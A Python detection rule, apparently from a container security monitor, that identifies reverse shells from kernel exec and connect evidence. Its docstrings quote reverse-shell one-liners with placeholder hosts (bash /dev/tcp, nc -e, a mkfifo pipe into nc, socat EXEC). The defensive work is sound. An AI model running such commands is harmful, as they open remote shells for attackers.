"""Reverse shells from evidence, not from argv text.

A reverse shell is a shell (or an interpreter) whose commands come from a network
connection. The kernel events show that connection in one of a few ways, one per family:

* the shell's own stdin/stdout is an inet socket (``bash -i >& /dev/tcp/...`` exec'd,
  ``nc -e sh``, ``perl ... open(STDIN, ">&S"); exec "/bin/sh"``, python ``dup2`` + ``sh``);
* the shell's parent has a socket on its stdio (python ``pty.spawn``: the shell gets a
  pty, the python holding it relays the socket);
* a shell, awk or network client connected and then started a shell, or a program with a
  socket on its stdio (``exec 5<>/dev/tcp/...`` then commands; gawk ``/inet/tcp`` running
  ``sh -c`` for each line it reads; ``socat TCP:... EXEC:sh``);
* a shell reading commands from stdin and a process that connected, joined by a pipe
  (``mkfifo f; cat f | sh -i | nc host port > f``); without pipe identities from the
  collector, a network client in the same pipeline (process group, or the same parent,
  with pipes on both) stands in for the pipe;
* a shell reading commands from stdin, started by a process that holds an open
  connection it made (a python relaying between its socket and the shell's pipes), or
  by a network client (socat, nc), which relays whatever it connects to.
  Programs that fetch something and then run ``sh -c`` are not this: ``-c`` and scripts do
  not read commands from stdin, and a connection closed before the shell started is none.

The process that started a shell may be a fork that never exec'd (``socat SYSTEM:``
forks, then runs ``sh -c``): it has no entry of its own, and its sockets are its
parent's, so the leader of the shell's process group stands in for it.
"""

from __future__ import annotations

from processors.engine import kernel_evidence
from processors.engine.findings import StepRun
from processors.engine.proctable import (
    AWK,
    INET_STDIO,
    INTERP,
    NETCLIENT,
    READS_STDIN,
    SHELL,
    inet_stdio,
    piped,
    same_pipeline,
)
from processors.engine.programs import NET_CLIENTS, unversioned
from processors.engine.record import record
from processors.engine.state import ContainerState, KProc
from schemas import ConnectEvent, ExecEvent

RULE = "process.reverse_shell"
# Who may start a remote shell after connecting: shells (/dev/tcp), awk (/inet/tcp) and
# network clients (socat EXEC:, nc -e). A python that fetched something and then runs
# `sh -c` is ordinary work, so interpreters are not in this list.
LAUNCHERS = SHELL | AWK | NETCLIENT


def on_exec(run: StepRun, ev: ExecEvent, p: KProc) -> None:
    why = exec_evidence(run, ev, p)
    if why is not None:
        report(run, p, ev.time, why, kernel_evidence.of_exec(ev, why))


def exec_evidence(run: StepRun, ev: ExecEvent, p: KProc) -> str | None:
    runs_code = p.has(SHELL) or p.has(INTERP)
    if runs_code and p.has(INET_STDIO):
        return f"{p.name} runs with a network socket on its stdin/stdout"
    if p.has(SHELL) and inet_stdio(ev.parent_stdio):
        parent = ev.parent_comm or ev.parent_exe or "its parent"
        return f"{p.name} started by {parent}, whose stdin/stdout is a network socket"
    parent_proc = _starter(run, ev)
    launcher = parent_proc is not None and parent_proc.connected and parent_proc.flags & LAUNCHERS
    if parent_proc is not None and launcher and (p.has(SHELL) or p.has(INET_STDIO)):
        return f"{parent_proc.name} connected to {parent_proc.dest}, then started {p.name}"
    if p.has(SHELL) and p.has(READS_STDIN):
        return _relayed(run, ev, p, parent_proc)
    return None


def _relayed(run: StepRun, ev: ExecEvent, p: KProc, parent_proc: KProc | None) -> str | None:
    """A shell reading commands from stdin, fed by a process that holds the connection."""
    partner = _pipe_partner(run, p)
    if partner is not None:
        return _piped_why(p, partner)
    if parent_proc is not None and holds_connection(run.state, parent_proc.pid):
        return (
            f"{p.name} reads commands from {parent_proc.name}, which holds a connection to {parent_proc.dest}"
        )
    client = _net_client_parent(ev, parent_proc)
    if client:
        return f"{p.name} reads commands from the network client {client} that started it"
    return None


def _net_client_parent(ev: ExecEvent, parent: KProc | None) -> str:
    """A network client (socat, nc) that started a shell reading its stdin: the client
    relays its connection to that shell, whichever it opened first (``socat EXEC:'bash
    -i',pty TCP:host:port`` starts the shell, then connects)."""
    if parent is not None and parent.has(NETCLIENT):
        return parent.name
    names = {ev.parent_comm, ev.parent_exe.rsplit("/", 1)[-1]} - {""}
    return next((n for n in sorted(names) if unversioned(n) in NET_CLIENTS), "")


def _starter(run: StepRun, ev: ExecEvent) -> KProc | None:
    """The process that started this one: its parent, or for a parent that is a fork
    without an exec of its own (no entry), the leader of the process group."""
    procs = run.state.procs
    parent = procs.get(ev.ppid)
    if parent is None and ev.pgid and ev.pgid != ev.pid:
        parent = procs.get(ev.pgid)
    return parent


def holds_connection(state: ContainerState, pid: int) -> bool:
    """``pid`` made a connection that is still open (counted, not yet closed)."""
    return any(owner == pid for owner in state.conns.values())


def _piped_why(shell: KProc, client: KProc) -> str:
    return f"{shell.name} reads commands through a pipe joined to {client.name}, connected to {client.dest}"


def on_connect(run: StepRun, ev: ConnectEvent, c: KProc) -> None:
    """The connect may come after the shell it serves (the client of a pipeline starts and
    connects in any order with the shell): look for that shell now."""
    for s in list(run.state.procs.values()):
        if s is not c and s.has(SHELL) and s.has(READS_STDIN) and _joined(s, c):
            why = _piped_why(s, c)
            report(run, s, ev.time, why, kernel_evidence.of_connect(ev, why))
            return


def _pipe_partner(run: StepRun, shell: KProc) -> KProc | None:
    for c in run.state.procs.values():
        if c is not shell and c.connected and _joined(shell, c):
            return c
    return None


def _joined(shell: KProc, client: KProc) -> bool:
    if not client.connected:
        return False
    if piped(shell, client):
        return True
    return client.has(NETCLIENT) and same_pipeline(shell, client)


def report(run: StepRun, p: KProc, t: int, why: str, evidence: dict[str, object]) -> None:
    record(run, RULE, p.name, t, message=f"reverse shell: {why} (pid {p.pid})", evidence=evidence)
